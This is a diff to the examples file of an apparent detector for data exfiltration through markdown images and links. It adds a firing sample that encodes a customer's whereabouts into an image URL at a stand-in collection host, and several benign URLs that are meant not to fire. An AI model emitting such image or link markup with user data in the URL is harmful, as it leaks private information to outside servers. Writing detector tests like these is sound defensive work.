@@ -2,6 +2,7 @@ import type { Examples } from '../../detector.ts';
 
 export const EXFILTRATION_EXAMPLES: Examples = {
   fires: () => [
+    ['![x](https://collect.example/i?x=the%2520customer%2520lives%2520in%2520Lisbon%2520now)', 'exfiltration/image'],
     ['![x](https://collect.example/search?q=my+account+is+locked+what+do+i+do)', 'exfiltration/image'],
     ['[more](https://collect.example/issues/new?body=the+password+is+the+name+of+the+dog)', 'exfiltration/link'],
     ['[more](https://collect.example/new?body=the+patient+was+given+warfarin+on+the+ward)', 'exfiltration/link'],
@@ -66,6 +67,11 @@ export const EXFILTRATION_EXAMPLES: Examples = {
     ],
   ],
   quiet: () => [
+    '[![Deploy](https://host.example/button)](https://host.example/new?description=The+key+of+the+service+is+asked+for+later)',
+    '![chat](https://img.shields.io/badge/chat-with_all_of_us-blue) and ![a](https://mermaid.ink/img/Z3JhcGggVEQKICBBLS0-Qg)',
+    '[bread](https://en.wikipedia.org/wiki/Bread#History_of_the_oven_and_the_mill)',
+    '[join](https://teams.example/l/0?context=%7b%22Tid%22%3a%22a1b2%22%7d)',
+    'https://sign.example/in?code_challenge=YTFjNjI1OWYzMzA3MTI4ZDY2Njg5M2RkNmVjNDE5YmE&state=af0ifjsldkj',
     'https://gitlab.example/a/b/-/issues/new?issue[description]=Steps+to+reproduce+are+in+the+log',
     'https://github.com/acme/app/issues/new?title=Crash&body=The+app+is+crashing+when+I+open+the+settings',
     'https://www.google.com/search?q=my+account+is+locked+what+do+i+do',
